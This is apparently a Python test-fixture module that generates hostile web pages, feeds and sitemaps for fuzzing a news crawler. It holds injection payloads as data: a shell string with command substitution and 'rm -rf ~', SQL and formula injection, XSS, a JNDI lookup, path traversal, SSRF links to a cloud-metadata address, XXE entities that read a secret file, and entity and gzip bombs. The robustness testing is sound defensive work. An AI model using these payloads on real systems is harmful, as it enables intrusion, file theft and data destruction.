"""What a hostile site puts into pages, feeds and sitemaps: texts, dates, JSON-LD, links, XML. Plain bytes.

Names tell what each tries; tests/hostile.py serves them.
"""

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Iterator

__all__ = ["BAD_LINKS", "LINE_NOISE", "dates", "feeds", "json_ld", "links", "mutants", "sitemaps", "story", "texts"]

LINE_NOISE = {
    "title of a terminal": "\x1b]0;owned\x07",
    "clear screen": "\x1b[2J\x1b[H\x1b[31m",
    "C1": "\x9b31m\x9d0;owned\x9c\x85",
    "references to controls": "&#27;[2J&#155;31m&#7;&#8;&#127;",
    "NUL": "a\x00b&#0;c",
    "bidi": "\u202egnp.exe\u202c \u2066\u2067x\u2069 \u200f\u200e\u061c",
    "surrogates": "&#xD800;&#xDFFF; \\ud800",
    "no characters": "\ufffe\uffff\U0001fffe &#x10FFFF; &#x110000; &#99999999999;",
    "line ends": "a\rb\nc\u2028d\u2029e\x0bf\x0cg",
    "combining": "Z" + "\u0301\u0300" * 3_000,
    "joiners": "\u200d\u200c\u200b\u2060\ufeff" * 500,
    "tags": "".join(chr(0xE0000 + ord(c)) for c in "hidden words"),
    "formula": '=HYPERLINK("http://127.0.0.1/?"&A1,"x")',
    "formulas": "+1+1|cmd|' /C calc'!A0 @SUM(1) -2",
    "SQL": "x'); DROP TABLE articles;-- \" OR 1=1",
    "FTS": '" NEAR/ * AND NOT {headline} : ^ ( OR',
    "shell": "$(touch /tmp/owned) `id` ; rm -rf ~ | & > < * ? ! # ~",
    "folders": "../../../../etc/passwd ..\\..\\x CON NUL aux.txt C:\\",
    "options": "--help -rf",
    "formats": "%s%n%(x)d {0.__class__} ${jndi:ldap://127.0.0.1/a} {{7*7}} <%= 7 %>",
    "markup": "<script>alert(1)</script><!-- --><![CDATA[ ]]></article></html><b>",
    "rich markup": "[bold red]x[/] [link=file:///etc/passwd]y[/link] [/bold]",
    "long": "word " * 20_000,
    "long word": "w" * 100_000,
}
"""Name -> text that some reader of it may take for a command."""

_DATES = (
    "99999-01-01T00:00:00Z",
    "0000-00-00",
    "-0001-01-01",
    "9999-12-31T23:59:59-14:00",
    "0001-01-01T00:00:00+14:00",
    "2024-02-30T25:61:61Z",
    "2024-04-17T10:00:00+99:99",
    "2024-04-17T10:00:00.123456789012345678Z",
    "1e308",
    "NaN",
    "9" * 400,
    "-62135596801",
    "253402300800000",
    "32 Smarch 2024",
    "2024-W99-9",
    "\u0661\u0662/\u0663\u0664/\u0665",
    "2024-04-17" * 2_000,
    "",
    "null",
    "'; DROP TABLE runs; --",
)
BAD_LINKS = (
    "javascript:alert(1)//a-story-of-words",
    "data:text/html,<h1>a-story",
    "file:///etc/passwd",
    "ftp://127.0.0.1/x",
    "vbscript:x",
    "about:blank",
    "blob:http://x/y",
    "mailto:a@b?subject=%0a",
    "//",
    "///etc/passwd",
    "\\\\127.0.0.1\\x",
    "http://",
    "http:///x",
    "http:/x",
    "http:x",
    "http://[",
    "http://[::1",
    "http://a]b/",
    "http://:80/",
    "http://@/",
    "http://user:secret@127.0.0.1:1/x",
    "http://127.0.0.1:99999/x",
    "http://127.0.0.1:-1/",
    "http://127.0.0.1:/x",
    "http://169.254.169.254/latest/meta-data/",
    "http://2130706433/",
    "http://0x7f.1/",
    "http://[::ffff:127.0.0.1]/",
    "http://xn--/",
    "http://xn--a\u0301.com/",
    "http://\u0130\u0131.example/",
    "http://exa\u00admple.org/",
    "http://a..b/",
    "http://" + "a" * 70 + ".org/",
    "http://" + "a." * 130 + "org/",
    "/%",
    "/%zz%00%0d%0aSet-Cookie:x=1",
    "/%c0%ae%c0%ae/",
    "/a b\tc\nd",
    "/\x00nul",
    "/\x1b[2Jclear-the-screen-of-it",
    "/\u202ereversed-story-of-words",
    "/\ud7ff\ue000",
    "/;x=y;z",
    "/?" + "&".join(f"q{n}={n}" for n in range(500)),
    "?" * 50,
    "#" * 50,
    "/" + "a/" * 500,
    "/" + "../" * 500,
    "/story-" + "x" * 60_000,
    "/story-" + "%41" * 20_000,
    "  /blanks-around-a-story-of-words  ",
    "HTTP://127.0.0.1:1/x",
)
_BODY = "".join(f"<p>Paragraph {n} tells at length what the council of Harbour said on Monday.</p>" for n in range(8))


def story(headline: str = "Council votes to rebuild the pier", *, head: str = "", more: str = "") -> bytes:
    """A page with a story that can be read."""
    return (
        f"<html><head><title>{headline}</title><meta property='og:type' content='article'>{head}</head><body><article>"
        f"<h1>{headline}</h1><p>By Ann Lee</p><time datetime='2024-04-17T10:00:00Z'>17 April</time>{_BODY}{more}"
        "</article></body></html>"
    ).encode("utf-8", "surrogatepass")


def _ld(value: object) -> str:
    text = value if isinstance(value, str) else json.dumps(value)
    return f'<script type="application/ld+json">{text}</script>'


def texts() -> Iterator[tuple[str, bytes]]:
    """Stories that say something hostile in the places that a crawler keeps."""
    for number, (name, text) in enumerate(LINE_NOISE.items()):
        quoted = text.replace('"', "&quot;")
        metas = "".join(f'<meta property="{p}" content="{quoted}">' for p in ("og:title", "article:section", "author"))
        node = {
            "@type": "NewsArticle",
            "headline": text,
            "author": {"name": text},
            "articleSection": text,
            "keywords": [text],
            "image": {"url": text, "caption": text},
        }
        if number % 2:
            yield f"headline, {name}", story(f"Council votes {text} again")
            yield f"JSON-LD, {name}", story(head=_ld(node))
        else:
            yield f"metas, {name}", story(head=metas + f'<meta name="description" content="{quoted}">')
            yield f"body, {name}", story(more=f"<p>{text}</p><img src='{text}'><figcaption>{text}</figcaption>")


def dates() -> Iterator[tuple[str, bytes]]:
    """Stories of times that there are not."""
    for number, date in enumerate(_DATES):
        yield (
            f"date {number} in JSON-LD",
            story(head=_ld({"@type": "NewsArticle", "headline": "x", "datePublished": date})),
        )
        yield f"date {number} in a meta", story(head=f'<meta property="article:published_time" content="{date}">')
        told = f'<h1>Council votes</h1><time datetime="{date}">{date[:50]}</time>{_BODY}'
        yield f"date {number} in a time", told.encode()


def json_ld() -> Iterator[tuple[str, bytes]]:
    """Stories whose JSON-LD is none, or too much of it."""
    node = '{"@type":"NewsArticle","headline":'
    values: dict[str, str] = {
        "brackets": "[" * 50_000,
        "deep": '{"@graph":[' * 900 + "1" + "]}" * 900,
        "no end": node + '"a',
        "NaN": node + "NaN}",
        "number": node + "9" * 50_000 + "}",
        "same key": node + '"a"' + ',"headline":[{}]' * 2_000 + "}",
        "null": "null",
        "types": '{"@type":[[["NewsArticle"]],{},null,1],"headline":{"@value":{}},"author":[[[]]]}',
        "list": "[1,2,3]",
        "self": '{"@id":"#a","@type":"NewsArticle","author":{"@id":"#a"},"headline":"x","publisher":{"@id":"#a"}}',
        "authors": node + '"x","author":[' + '{"name":"A B"},' * 3_000 + "1]}",
        "proto": '{"__proto__":{"x":1}}',
        "surrogates": node + r'"\ud800\udc00\ud800","articleBody":"\udfff"}',
        "escapes": node + r'"\u001b[2J\u0000\u009b"}',
        "wrong kinds": node
        + '{"a":1},"datePublished":{"b":[2]},"image":7,"keywords":{"c":3},"isAccessibleForFree":"x"}',
        "quotes": node + '"A "quoted" one"' + ', "a": [1, 2, }, ' * 300,
        "bytes": "\x00\x01\x02{",
        "empty": "",
    }
    for name, value in values.items():
        yield f"JSON-LD of {name}", story(head=_ld(value))


def links() -> Iterator[tuple[str, bytes]]:
    """Pages whose links lead where no crawler should go: some each, and bases that turn the others' sense around."""
    for number in range(0, len(BAD_LINKS), 4):
        some = "".join(
            f'<h3><a href="{link}">A headline of some words {number}</a></h3>'
            for link in BAD_LINKS[number : number + 4]
        )
        yield f"links {number}", story(more=some)
    for base in (
        "javascript:x",
        "data:,x",
        "file:///",
        "http://[",
        "//",
        "http://169.254.169.254/",
        "",
        "/" * 9,
        "\x00",
    ):
        more = "<link rel='canonical' href='story'><link rel=next href='?p=2'><a href='a-story-of-words'>A story</a>"
        yield f"base {base!r}", story(head=f'<base href="{base}">', more=more)
        yield (
            f"canonical {base!r}",
            story(head=f'<link rel="canonical" href="{base}"><meta property="og:url" content="{base}">'),
        )


_LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))


def _xml(root: str, place: str, secret: str) -> Iterator[tuple[str, bytes]]:
    """Documents with a text at `place` (written as %s) that is more, or another, than it seems."""
    whole = root % (place % "Council votes to rebuild the pier")
    yield "laughs", f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>{root % (place % "&l9;")}'.encode()
    yield "quadratic", f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>{root % (place % ("&a;" * 5_000))}'.encode()
    yield "file", f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{secret}">]>{root % (place % "&f;")}'.encode()
    yield "parameters", f'<!DOCTYPE x [<!ENTITY % p SYSTEM "file://{secret}">%p;]>{whole}'.encode()
    yield "DTD", f'<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">{whole}'.encode()
    yield (
        "include",
        root.replace("%s", f'<i xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{secret}"/></i>').encode(),
    )
    yield "nested", (root % (place % ("<a>" * 50_000))).encode()
    yield "no end", whole.encode()[:-9]
    yield "attributes", (root % (place % f"<a {' '.join(f'a{n}=' + chr(34) * 2 for n in range(20_000))}/>")).encode()
    yield "UTF-16", whole.encode("utf-16")
    yield "lying encoding", f'<?xml version="1.0" encoding="utf-16"?>{whole}'.encode()
    yield "no such encoding", f'<?xml version="1.0" encoding="no-such"?>{whole}'.encode()
    yield "NULs", whole.replace("pier", "p\x00i\x1ber").encode()
    yield "gzip", gzip.compress(whole.encode())
    yield "gzip bomb", gzip.compress(b"<" + bytes(60_000_000))
    yield "gzip cut", gzip.compress(whole.encode() * 50)[:60]
    yield "HTML", story()
    yield "nothing", b""
    for name, text in LINE_NOISE.items():
        safe = text.replace("&", "&amp;").replace("<", "&lt;")
        yield name, (root % (place % safe)).encode("utf-8", "surrogatepass")


def feeds(secret: str) -> Iterator[tuple[str, bytes]]:
    """Feeds; `secret` is the path of a file that no entity may read."""
    item = "<item><title>%s</title><link>/from-a-feed-of-words</link><pubDate>Thu, 99 Foo 99999</pubDate></item>"
    yield from _xml("<rss version='2.0'><channel><title>x</title>%s</channel></rss>", item, secret)
    bad = "".join(
        f"<item><title>A title</title><link>{link.replace('&', '&amp;')}</link></item>" for link in BAD_LINKS[:40]
    )
    yield "bad links", f"<rss><channel>{bad}</channel></rss>".replace("\x00", "").encode()
    yield (
        "Atom",
        b"<feed xmlns='http://www.w3.org/2005/Atom' xml:base='file:'><entry><link href='etc/passwd'/></entry></feed>",
    )
    yield (
        "JSON feed",
        json.dumps(
            {"version": "https://jsonfeed.org/version/1", "items": [{"url": u, "title": [1]} for u in BAD_LINKS[:20]]}
        ).encode(),
    )
    yield "JSON feed of brackets", b'{"version": "https://jsonfeed.org/version/1", "items": ' + b"[" * 50_000


def sitemaps(secret: str) -> Iterator[tuple[str, bytes]]:
    """Sitemaps, and indexes of them."""
    url = "<url><loc>/from-a-sitemap-of-words?%s</loc><lastmod>99999-99-99</lastmod></url>"
    space = "xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'"
    yield from _xml(f"<urlset {space}>%s</urlset>", url, secret)
    locs = "".join(f"<url><loc>{link.replace('&', '&amp;')}</loc></url>" for link in BAD_LINKS[:40])
    yield "bad links", f"<urlset {space}>{locs}</urlset>".replace("\x00", "").encode()
    yield "plain text", "\n".join(BAD_LINKS[:20]).encode("utf-8", "surrogatepass")
    many = "".join(f"<url><loc>http://o{n}.example/</loc></url>" for n in range(5_000))
    yield "many", f"<urlset {space}>{many}</urlset>".encode()


def mutants(page: bytes, count: int, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """A good answer or page with bytes changed, doubled, swapped and left out at random; the same for a seed."""
    for number in range(count):
        chance = random.Random(seed * 1_000 + number)
        spoilt = bytearray(page)
        for _ in range(chance.randint(1, 12)):
            where = chance.randrange(len(spoilt))
            length = chance.randint(1, 40)
            how = chance.randrange(4)
            if how == 0:
                spoilt[where] = chance.randrange(256)
            elif how == 1:
                del spoilt[where : where + length]
            elif how == 2:
                spoilt[where:where] = spoilt[where : where + length] * chance.randint(1, 9)
            else:
                spoilt[where:where] = chance.randbytes(length)
        yield f"mutant {number}", bytes(spoilt)
